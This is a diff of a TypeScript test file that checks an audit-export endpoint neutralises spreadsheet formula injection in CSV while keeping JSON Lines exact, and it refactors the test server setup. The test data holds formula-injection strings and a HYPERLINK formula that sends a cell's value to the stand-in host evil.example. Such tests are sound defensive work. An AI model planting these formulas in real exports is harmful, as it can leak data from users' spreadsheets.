@@ -14,28 +14,19 @@ import {
   GENESIS,
   sha256Hex,
 } from '@consent-sync/consent-core'
-import { afterEach, describe, expect, it } from 'vitest'
+import { describe, expect, it } from 'vitest'
 import * as Y from 'yjs'
 import { verifyStore } from '../audit/verify'
-import { stockClient } from '../testing/clients'
-import { ADMIN, CSR_1, startTestServer, type TestServer } from '../testing/server'
+import { stockFor, testServer } from '../testing/per-test'
+import { ADMIN, CSR_1, type TestServer } from '../testing/server'
 import { until } from '../testing/until'
 
 const FORMULAS = ['=1+2', '+1+2', '-1+2', '@SUM(1,2)', '\t=1+2', '\r=1+2']
 const HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"open")'
 
-let server: TestServer | undefined
-const cleanups: (() => void)[] = []
-afterEach(async () => {
-  for (const c of cleanups.splice(0)) c()
-  await server?.cleanup()
-  server = undefined
-})
-
 /** An agent records one phone decision per formula as evidence, through the sync endpoint. */
 async function recordEvidence(s: TestServer): Promise<void> {
-  const agent = stockClient(s.syncUrl, 'C-0001', s.token(CSR_1))
-  cleanups.push(() => agent.destroy())
+  const agent = stockFor(s, CSR_1)
   await agent.synced()
   for (const [i, evidence] of FORMULAS.entries()) {
     decide(
@@ -125,8 +116,7 @@ function parseCsv(text: string): string[][] {
 
 describe('GET /api/audit/export with values a spreadsheet would run', () => {
   it('neutralises them in CSV, keeps JSON Lines exact, and the chain still verifies', async () => {
-    const s = await startTestServer()
-    server = s
+    const s = await testServer()
     await recordEvidence(s)
     await storeCustomerChosenId(s)
     const token = s.token(ADMIN)
@@ -168,8 +158,7 @@ describe('GET /api/audit/export with values a spreadsheet would run', () => {
   })
 
   it('says so in the API reference', async () => {
-    const s = await startTestServer()
-    server = s
+    const s = await testServer()
     const spec = (await (await fetch(`${s.httpUrl}/docs/json`)).json()) as {
       paths: Record<string, { get?: { description?: string } }>
     }
